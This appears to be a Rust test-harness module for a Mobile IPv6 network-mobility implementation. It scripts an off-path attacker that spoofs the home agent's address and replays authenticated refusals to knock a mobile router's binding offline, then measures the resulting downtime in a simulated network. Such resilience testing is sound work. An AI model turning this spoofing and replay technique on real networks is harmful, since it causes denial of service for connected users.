//! An off-path attacker makes the home agent authenticate refusals (RFC 4285 §5), and sends them to the mobile router
//! as acknowledgements of its own updates.

use super::{OUT_OF_WINDOW, Outsider, attacker_address, insider};
use crate::clock;
use crate::load::forge::{SyntheticRouter, UpdateRequest, parse_acknowledgement};
use crate::topology::nemo::{HOME_AGENT, NO_DAD, NemoNetwork};
use anyhow::{Context, Result};
use roam6_proto::Report;
use roam6_proto::contract::report::NemoReport;
use roam6_proto::contract::view::BindingView;
use roam6_wire::Sequence;
use roam6_wire::ip6::{self, Datagram, Header, protocol};
use roam6_wire::mobility::Message;
use std::net::Ipv6Addr;
use std::time::Duration;

/// One-way delay between the home agent and the core router, where the attacker is attached: the attacker is nearer to
/// the mobile router.
const DELAY: Duration = Duration::from_millis(15);
/// How long the home agent's answer may take in each round: it may rate-limit its answers.
const REFUSAL_TIMEOUT: Duration = Duration::from_millis(100);

/// Seconds of `span` in which the mobile router was not registered.
pub(crate) fn unbound_seconds(span: Duration) -> Result<f64> {
    let (network, vehicle) = NemoNetwork::with_vehicle(DELAY, NO_DAD, "")?;
    let bindings: Vec<BindingView> = vehicle.daemon.show("bindings")?;
    let care_of = bindings.iter().find_map(|binding| binding.care_of).context("the mobile router is not registered")?;
    let mut forger = Forger {
        outsider: Outsider::connect(&network)?,
        victim: SyntheticRouter { key: b"not the key".to_vec(), ..insider(0, care_of) },
        last: None,
    };
    let began = clock::unix_micros();
    let end = clock::now() + span;
    while clock::now() < end {
        forger.round()?;
    }
    let until = clock::unix_micros();
    let events = vehicle.daemon.events.events_from(0);
    let changes = events.iter().filter_map(|event| match &event.report {
        Report::Nemo(NemoReport::Bound { .. }) => Some((event.unix_micros, true)),
        Report::Nemo(NemoReport::Unbound { .. }) => Some((event.unix_micros, false)),
        _ => None,
    });
    Ok(unbound_micros(changes, began, until) as f64 / 1e6)
}

/// Microseconds from `began` until `until` without a binding, from changes in order of time.
fn unbound_micros(changes: impl Iterator<Item = (u64, bool)>, began: u64, until: u64) -> u64 {
    let (mut total, mut lost_at) = (0, None);
    for (at, bound) in changes.filter(|(at, _)| (began..until).contains(at)) {
        match (bound, lost_at) {
            (false, None) => lost_at = Some(at),
            (true, Some(lost)) => {
                total += at - lost;
                lost_at = None;
            }
            _ => {}
        }
    }
    total + lost_at.map_or(0, |lost| until - lost)
}

/// An attacker that knows the addresses of both ends and no key.
struct Forger {
    outsider: Outsider,
    victim: SyntheticRouter,
    /// The last sequence number that the home agent has accepted, if known.
    last: Option<Sequence>,
}

impl Forger {
    /// Learns the last sequence number, obtains an authenticated refusal of the next one, makes the mobile router send
    /// an update with that number, and sends it the refusal.
    fn round(&mut self) -> Result<()> {
        // Of two numbers that differ by half of the number space one is out of window.
        for guess in [Sequence(0), Sequence(0x8000)] {
            let request = UpdateRequest::new(self.last.map_or(guess, Sequence::next));
            self.outsider.send(&self.victim.signed_update_from(attacker_address(1), &request))?;
            match self.outsider.receive(REFUSAL_TIMEOUT, |packet| {
                parse_acknowledgement(packet).map(|acknowledgement| (acknowledgement, packet.to_vec()))
            }) {
                Some(((_, OUT_OF_WINDOW, last), _)) => self.last = Some(last),
                Some(((_, status, _), packet)) if status >= 128 && self.last.is_some() => {
                    return self.replay_refusal(&packet);
                }
                _ => {}
            }
        }
        Ok(())
    }

    fn replay_refusal(&mut self, refusal: &[u8]) -> Result<()> {
        let Ok(datagram) = Datagram::parse(refusal) else { return Ok(()) };
        let message = Message::BindingRefreshRequest { options: Vec::new() };
        let request = message.emit(HOME_AGENT, self.victim.home_address.0);
        let forged = datagram.payload.to_vec();
        self.outsider.send(&self.to_victim(&request))?;
        // The mobile router sends its update just after the request; the home agent's own answer is still in flight.
        for _ in 0..DELAY.as_millis() {
            self.outsider.send(&self.to_victim(&forged))?;
            std::thread::sleep(Duration::from_millis(1));
        }
        Ok(())
    }

    /// A mobility message to the care-of address with the home agent's source address.
    fn to_victim(&self, message: &[u8]) -> Vec<u8> {
        let care_of: Ipv6Addr = self.victim.care_of.0;
        let header = Header::new(HOME_AGENT, care_of).with_routing_home(self.victim.home_address.0);
        ip6::emit(&header, protocol::MOBILITY, message)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn time_without_binding_is_summed() {
        let changes = [(5, true), (10, false), (12, false), (20, true), (30, false)];
        assert_eq!(unbound_micros(changes.into_iter(), 6, 40), 10 + 10);
        assert_eq!(unbound_micros([].into_iter(), 6, 40), 0);
    }
}
